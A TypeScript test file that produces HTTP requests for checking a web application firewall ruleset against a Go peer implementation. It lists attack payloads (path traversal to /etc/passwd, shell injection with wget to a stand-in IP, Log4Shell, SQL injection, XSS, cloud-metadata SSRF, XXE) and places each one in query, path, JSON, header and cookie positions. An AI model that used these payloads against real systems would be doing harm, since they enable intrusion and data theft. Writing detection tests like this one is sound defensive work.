// Requests for the comparison with the Go peer: attacks of every kind that the ruleset knows, in every place that the peer
// looks at. Whether one is reported is not written down here: the peer says.
import { readFileSync } from 'node:fs'
import { type RequestParts, requestText } from './request-text.js'

export interface ParityRequest {
  /** What and where, for failure messages. */
  readonly name: string
  readonly bytes: Buffer
}

/** One or more of each rule type, and harmless ones; in the words of the public attack literature. */
const values: readonly string[] = [
  'hello world',
  'red shoes & socks',
  'größe 42 – ja',
  '$globals',
  'HTTP_USER_AGENT $_GET[x]',
  'php://filter/convert.base64-encode/resource=index',
  'O:4:"User":1:{s:4:"name";s:5:"admin";}',
  'zlib://payload',
  '$_POST["a"]($b)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%c0%ae%c0%ae/boot',
  'file:///etc/passwd?',
  'http://203.0.113.9/rfiinc.txt?',
  '; cat /etc/passwd |',
  '| ping -c 1 203.0.113.9',
  '`wget http://203.0.113.9/a`',
  '() { :;}; /bin/bash -c id',
  '$(id)',
  'subprocess.check_output(["id"])',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><iframe src="javascript:alert(1)">',
  'javascript:alert(document.cookie)',
  '<object data="data:text/html;base64,PHN2Zz4=">',
  '<base href="//203.0.113.9/">',
  '<meta http-equiv="refresh" content="0">',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '![]+[]',
  "1' OR '1'='1",
  "' UNION SELECT user, password FROM users -- ",
  '1; DROP TABLE users',
  "1'; waitfor delay '0:0:10'--",
  '1 and sleep(5)',
  'benchmark(1000000,md5(1))',
  '/*!50000select*/ 1',
  '[$ne]',
  '$where',
  '$regex',
  'allow filtering',
  'require("child_process")',
  '{{7*7}}',
  '__proto__',
  'constructor',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on a Java logger, sent as it stands
  '${jndi:ldap://203.0.113.9/a}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Java expression, sent as it stands
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  'java.lang.ProcessBuilder',
  'class.module.classLoader.resources.context.parent.pipeline',
  '#set($x=1)',
  'http://169.254.169.254/latest/meta-data/',
  'http://2852039166/',
  'gopher://127.0.0.1:6379/_INFO',
  'http://127.0.0.1:5986/wsman',
  'http://abc.oastify.com/',
  'https://webhook.site/x',
  'a.qualysperiscope.com',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
  'GET /x HTTP/1.1',
  'x\r\nSet-Cookie: a=b',
  'shell.php.jpg',
  'shell.jsp',
  'backup.tar.gz',
  'sqlmap/1.7',
  'Nikto/2.1.6',
  'Mozilla/5.0 zgrab/0.x',
  'Arachni/v1.0',
  'acunetix-product',
]

interface Place {
  readonly name: string
  /** `undefined` where the value cannot stand. */
  put(value: string): RequestParts | undefined
}

const places: readonly Place[] = [
  { name: 'query value', put: (value) => ({ target: `/search?q=${encodeURIComponent(value)}` }) },
  { name: 'query name', put: (value) => ({ target: `/search?${encodeURIComponent(value)}=1` }) },
  { name: 'path', put: (value) => ({ target: `/files/${encodeURIComponent(value)}` }) },
  { name: 'JSON value', put: (value) => json({ q: value }) },
  { name: 'JSON name', put: (value) => json({ [value]: 1 }) },
  { name: 'nested JSON', put: (value) => json([{ a: { b: ['x', value] } }]) },
  { name: 'other JSON type', put: (value) => ({ ...json({ q: value }), type: 'application/vnd.api+json; v=1' }) },
  header('x-custom'),
  header('user-agent'),
  header('referer'),
  header('x-filename'),
  header('authorization'),
  { name: 'cookie', put: (value) => headerLine('cookie', `a=1; session=${value}`) },
]

/**
 * All requests of the comparison.
 * @param rulesPath - the ruleset both sides use; the first phrases of its phrase lists are sent too.
 */
export function parityRequests(rulesPath: string): readonly ParityRequest[] {
  const requests: ParityRequest[] = []
  for (const value of [...values, ...readPhrases(rulesPath)]) {
    for (const place of places) {
      const parts = place.put(value)
      if (parts === undefined) continue
      const number = requests.length
      requests.push({ name: `${place.name}: ${value}`, bytes: numbered(parts, number) })
    }
  }
  return requests
}

/** The header of request `number` that both sides report, so that their reports can be put side by side. */
export function numberTag(number: number): string {
  return `1.1 parity-${number}`
}

function numbered(parts: RequestParts, number: number): Buffer {
  return requestText({ ...parts, headers: [...(parts.headers ?? []), `Via: ${numberTag(number)}`] })
}

function json(value: unknown): RequestParts {
  return { target: '/api', type: 'application/json', body: JSON.stringify(value) }
}

function header(name: string): Place {
  return { name: `header ${name}`, put: (value) => headerLine(name, value) }
}

function headerLine(name: string, value: string): RequestParts | undefined {
  return /[\r\n]/.test(value) ? undefined : { target: '/', headers: [`${name}: ${value}`] }
}

/** Three phrases of each list: the first, one in the middle, the last. */
function readPhrases(rulesPath: string): readonly string[] {
  const phrases = new Set<string>()
  const ruleset: PhraseRuleset = JSON.parse(readFileSync(rulesPath, 'utf8'))
  for (const { conditions } of ruleset.rules) {
    for (const { operator, parameters } of conditions) {
      const list = operator === 'phrase_match' ? (parameters.list ?? []) : []
      for (const phrase of [list.at(0), list.at(list.length / 2), list.at(-1)]) phrases.add(phrase ?? '')
    }
  }
  phrases.delete('')
  return [...phrases]
}

/** The part of a ruleset that is read here. */
interface PhraseRuleset {
  readonly rules: readonly {
    readonly conditions: readonly {
      readonly operator: string
      readonly parameters: { readonly list?: readonly string[] }
    }[]
  }[]
}
